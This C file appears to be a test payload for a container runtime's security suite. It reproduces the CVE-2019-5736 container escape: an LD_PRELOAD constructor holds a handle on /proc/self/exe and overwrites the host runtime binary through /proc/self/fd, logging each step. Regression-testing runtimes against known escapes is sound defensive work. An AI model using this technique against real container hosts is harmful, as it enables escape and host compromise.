// The CVE-2019-5736 payload of integration/security-attacks.bats, preloaded (LD_PRELOAD) into
// whatever the kernel runs for a container's `#!/proc/self/exe` script. If that is the host's
// hippo or shim binary, this constructor runs inside the container with /proc/self/exe naming
// it: it records the file's identity in /attack.log and keeps an O_PATH fd on it, then execs a
// shell that, for a bounded time, reopens the fd for writing through /proc/self/fd (waiting out
// ETXTBSY while host processes still execute the file) and overwrites the binary. Nothing that
// maps the binary may stay alive in the container, or the file stays busy: the shell runs in a
// forked child, and the parent becomes `sleep 6` as the container's pid 1 (create/start) or
// exits at once (exec, so that the host's `hippo exec` returns and frees the file).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void note(const char* text) {
  int log = open("/attack.log", O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (log < 0) return;
  (void)!write(log, text, strlen(text));
  close(log);
}

static const char kWriter[] =
    "n=0; while [ $n -lt 50 ]; do"
    "  if err=$( (printf hippo-exe-attack >/proc/self/fd/%d) 2>&1 ); then"
    "    echo 'wrote 16 bytes' >>/attack.log; exit 0; fi;"
    "  case $err in *busy*) ;; *) echo \"open for writing: $err\" >>/attack.log; exit 0;; esac;"
    "  sleep 0.1; n=$((n+1));"
    "done; echo 'open for writing: still busy' >>/attack.log";

__attribute__((constructor)) static void attack(void) {
  char line[512];
  int exe = open("/proc/self/exe", O_PATH);  // inherited by the shell: no O_CLOEXEC
  struct stat st;
  if (exe < 0 || fstat(exe, &st) != 0) {
    snprintf(line, sizeof line, "exe: %s\n", strerror(errno));
    note(line);
    _exit(1);
  }
  snprintf(line, sizeof line, "exe %lu:%lu\n", (unsigned long)st.st_dev, (unsigned long)st.st_ino);
  note(line);
  if (fork() == 0) {
    setsid();
    snprintf(line, sizeof line, kWriter, exe);
    execl("/bin/sh", "sh", "-c", line, (char*)NULL);
    _exit(1);
  }
  close(exe);
  if (getpid() == 1) execl("/bin/sleep", "sleep", "6", (char*)NULL);
  _exit(0);
}
